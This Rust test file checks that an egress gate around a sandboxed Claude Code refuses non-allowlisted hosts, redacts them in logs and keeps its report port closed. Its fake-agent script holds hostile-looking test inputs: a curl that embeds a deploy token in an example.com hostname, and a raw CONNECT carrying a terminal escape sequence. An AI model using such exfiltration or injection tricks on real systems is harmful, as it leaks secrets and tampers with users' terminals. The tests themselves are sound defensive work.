//! The summary of what the gate refused: each name whole on the user's
//! terminal, with the allowlist line that would let it through; redacted
//! everywhere it is kept (the gate's log, `logs`, the engine's container
//! log) and off the terminal.

use std::time::{Duration, Instant};

use bollard::Docker;
use bollard::query_parameters::{ListContainersOptions, LogsOptions};
use futures_util::StreamExt;
use serde_json::json;

use crate::support::{
    CLAUDE_CODE_IMAGE, FIXTURES_IMAGE, Sandbox, Service, Session, TEST_LABEL, Terminal,
    TestNetwork, fake_claude_bottle, label_filter, leftovers, run_label, with_fake_claude,
    with_real_claude,
};

/// A name under a known suffix, so the log shows `com#hash`.
const REFUSED: &str = "refused-host.example.com";

/// 203 characters in four labels: a real name, too long to show.
fn long_name() -> String {
    format!("{}.example.com", vec!["l".repeat(48); 4].join("."))
}

/// What the fake claude tries: a refused name, Claude Code's expected
/// one, a very long one, one with an escape sequence in it (sent raw,
/// since no client would), and the gate's own report port, through the
/// gate and past it.
fn script() -> String {
    format!(
        "curl -s -o /dev/null https://{REFUSED}/; curl -s -o /dev/null https://{REFUSED}/again; \
         curl -s -o /dev/null https://raw.githubusercontent.com/anthropics/notes; \
         curl -s -o /dev/null https://{}/; \
         curl -s -o /dev/null https://$DEPLOY_TOKEN.example.com/; \
         printf 'CONNECT \\033[2Jescape.example.com:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' \
           | curl -s -o /dev/null telnet://gate:3128 --max-time 3; \
         echo report-through-gate=$(curl -s -o /dev/null -w '%{{http_code}}' --noproxy '' -x http://gate:3128 http://127.0.0.1:3129/); \
         echo report-by-name=$(curl -s -o /dev/null -w '%{{http_code}}' --noproxy '' -x http://gate:3128 http://localhost:3129/); \
         curl -s --noproxy '*' --max-time 3 http://gate:3129/ >/dev/null; echo report-direct=$?; \
         echo refusals-tried-$((6*7))",
        long_name()
    )
}

/// The gate container's own log, as the engine keeps it.
async fn engine_log_of_gate(docker: &Docker, label: &str) -> String {
    let gates = docker
        .list_containers(Some(ListContainersOptions {
            filters: Some(label_filter(
                label,
                Some("io.claude-bottle.role=gate".to_owned()),
            )),
            ..Default::default()
        }))
        .await
        .unwrap();
    let id = gates
        .first()
        .and_then(|g| g.id.clone())
        .expect("the gate runs");
    let mut log = docker.logs(
        &id,
        Some(LogsOptions {
            stdout: true,
            stderr: true,
            ..Default::default()
        }),
    );
    let mut text = String::new();
    while let Some(Ok(chunk)) = log.next().await {
        text.push_str(&String::from_utf8_lossy(&chunk.into_bytes()));
    }
    text
}

#[track_caller]
fn assert_redacted(what: &str, text: &str) {
    assert!(
        !text.contains("refused-host"),
        "{what} holds the name whole:\n{text}"
    );
    assert!(
        !text.contains(&"l".repeat(48)),
        "{what} holds the long name:\n{text}"
    );
    assert!(
        !text.contains("escape"),
        "{what} holds the escaped name:\n{text}"
    );
}

#[tokio::test]
async fn a_refused_name_is_shown_whole_with_its_fix_on_the_terminal_and_redacted_where_kept() {
    let Some(docker) = with_fake_claude("refusals on the terminal").await else {
        return;
    };
    let label = run_label("refusals");
    let sandbox = fake_claude_bottle(
        &label,
        &json!({ "env": {
            "FAKE_CLAUDE_RUN": script(),
            "FAKE_CLAUDE_SLEEP": "6",
            "DEPLOY_TOKEN": "tok3n-value-9x"
        } }),
    );
    let terminal = Terminal::start(&sandbox, &["start", "a", "--yes"]);
    let screen = terminal.wait_for("refusals-tried-42");
    assert!(screen.contains("report-through-gate=403"), "{screen}");
    assert!(screen.contains("report-by-name=403"), "{screen}");
    assert!(
        !screen.contains("report-direct=0"),
        "the report port answered the agent:\n{screen}"
    );
    // Mid-session, what is kept holds only the redacted names.
    let instance = screen
        .lines()
        .find_map(|l| l.trim().strip_prefix("instance").map(str::trim))
        .expect("the preflight names the instance")
        .to_owned();
    let logs = sandbox.run(&["logs", &instance]);
    assert_eq!(logs.code, 0, "{logs:?}");
    assert_redacted("`logs`", &logs.stdout);
    assert!(logs.stdout.contains(r#""host":"com#"#), "{}", logs.stdout);
    assert!(
        logs.stdout.contains(r#""host":"raw.githubusercontent.com","port":443,"verdict":"refuse","rule":"expected-not-allowed""#),
        "{}",
        logs.stdout
    );
    assert_redacted(
        "the engine's log of the gate",
        &engine_log_of_gate(&docker, &label).await,
    );

    assert_eq!(terminal.exit_status(), 0);
    let screen = terminal.screen();
    let summary = &screen[screen.find("egress:").expect("a summary")..];
    assert!(
        summary.contains(&format!(
            "refused {REFUSED}:443, 2 times (not-on-allowlist); to allow it, add \"{REFUSED}\" to egress.allowlist"
        )),
        "{summary}"
    );
    assert!(
        summary.contains("Claude Code's own, expected: raw.githubusercontent.com:443, 1 refused"),
        "{summary}"
    );
    assert!(summary.contains("the name is not shown whole"), "{summary}");
    assert!(!summary.contains(&"l".repeat(48)), "{summary}");
    assert!(!summary.contains("escape"), "{summary}");
    // A name carrying a value the bottle was given stays redacted.
    assert!(!summary.contains("tok3n-value-9x"), "{summary}");
    assert_eq!(
        summary.matches("the name is not shown whole").count(),
        2,
        "the long name and the token's: {summary}"
    );
    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));

    // Off a terminal the summary keeps the log's redaction.
    let session = Session::spawn(&sandbox, &["start", "a", "--yes"]);
    let deadline = Instant::now() + Duration::from_secs(60);
    let out = session.wait();
    assert!(Instant::now() < deadline);
    assert_eq!(out.code, 0, "{out:?}");
    let line = out
        .stderr
        .lines()
        .find(|l| l.starts_with("egress:"))
        .expect("a summary");
    assert_redacted("the summary off a terminal", &out.stderr);
    assert!(
        line.contains("Claude Code's own: 1 refused (expected)"),
        "{line}"
    );
}

/// Real Claude Code, idle at its prompt and then `/exit`: what it calls on
/// its own is either allowed (the built-in hosts) or Claude Code's own
/// expected refusal; nothing else is asked for, and nothing is refused.
#[tokio::test]
async fn real_claude_code_idle_at_its_prompt_calls_nothing_it_should_not() {
    let Some(docker) = with_real_claude("claude code's own calls").await else {
        return;
    };
    let label = run_label("own-calls");
    let outside = format!("{label}-outside");
    let network = TestNetwork::create(&docker, &outside).await;
    let (_mock, mock) = Service::mock(&network, &json!([]))
        .start(&docker, &outside)
        .await;
    // Names are answered here, never by a resolver past this machine.
    let (_dns, dns) = Service::new(FIXTURES_IMAGE, &network)
        .cmd(&["fixture-dns"])
        .env("DNS_RECORDS", &format!("mock={mock}"))
        .alias("dns")
        .start(&docker, &outside)
        .await;
    let manifest = json!({
        "bottles": { "dev": {
            "env": { "ANTHROPIC_BASE_URL": "http://mock", "ANTHROPIC_API_KEY": "sk-ant-api03-own-calls-test" },
            "egress": { "allowlist": ["mock"], "private": ["mock"] }
        } },
        "agents": { "a": { "bottle": "dev" } },
    });
    let sandbox = Sandbox::with_manifest(&manifest.to_string())
        .env("CLAUDE_BOTTLE_IMAGE", CLAUDE_CODE_IMAGE)
        .env(
            "CLAUDE_BOTTLE_EXTRA_LABELS",
            &format!("{TEST_LABEL}={label}"),
        )
        .env("CLAUDE_BOTTLE_GATE_NETWORKS", &network.name)
        .env("CLAUDE_BOTTLE_GATE_DNS", &format!("{dns}:53"));
    let terminal = Terminal::start(&sandbox, &["start", "a", "--yes"]);
    let screen = terminal.wait_for("bypass permissions");
    // Idle at the prompt, as a user reading it would be.
    tokio::time::sleep(Duration::from_secs(15)).await;
    let instance = screen
        .lines()
        .find_map(|l| l.trim().strip_prefix("instance").map(str::trim))
        .expect("the preflight names the instance")
        .to_owned();
    let logs = sandbox.run(&["logs", &instance]);
    assert_eq!(logs.code, 0, "{logs:?}");
    let decisions: Vec<serde_json::Value> = logs
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    // Claude Code was up and calling: the log is not empty by accident.
    assert!(
        decisions.iter().any(|d| d["host"] == "api.anthropic.com"),
        "{}",
        logs.stdout
    );
    let called: &[&str] = &["mock", "api.anthropic.com", "raw.githubusercontent.com"];
    for decision in &decisions {
        let host = decision["host"].as_str().unwrap_or_default();
        assert!(
            called.contains(&host),
            "an unexpected call: {decision}\n{}",
            logs.stdout
        );
        if decision["verdict"] == "refuse" {
            assert_eq!(decision["rule"], "expected-not-allowed", "{decision}");
        }
    }
    terminal.type_text("/exit");
    tokio::time::sleep(Duration::from_millis(500)).await;
    terminal.keys(&["Enter"]);
    assert_eq!(terminal.exit_status(), 0);
    let screen = terminal.screen();
    let summary = &screen[screen.find("egress:").expect("a summary")..];
    let first = summary.lines().next().unwrap();
    assert!(first.contains(" 0 refused"), "{summary}");
    assert!(
        summary
            .lines()
            .skip(1)
            .all(|l| !l.trim_start().starts_with("refused ")),
        "{summary}"
    );
    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
}

/// The switches that quiet Claude Code go into claude's environment, and
/// the manifest's `env` overrides any of them.
#[tokio::test]
async fn the_quieting_switches_are_set_unless_the_manifest_sets_them() {
    let Some(docker) = with_fake_claude("quieting switches").await else {
        return;
    };
    let label = run_label("switches");
    let sandbox = fake_claude_bottle(
        &label,
        &json!({ "env": { "DISABLE_ERROR_REPORTING": "0" } }),
    );
    let out = sandbox.run(&["start", "a", "--yes"]);
    assert_eq!(out.code, 0, "{out:?}");
    let report = &fixtures::report::frames(&out.stdout, "report")[0];
    let env = &report["env"];
    assert_eq!(
        env["CLAUDE_CODE_DISABLE_OFFICIAL_MARKETPLACE_AUTOINSTALL"], "1",
        "{env}"
    );
    assert_eq!(env["DISABLE_AUTOUPDATER"], "1", "{env}");
    assert_eq!(
        env["DISABLE_ERROR_REPORTING"], "0",
        "the manifest's value wins: {env}"
    );
    assert_eq!(leftovers(&docker, &label).await, (vec![], vec![]));
}
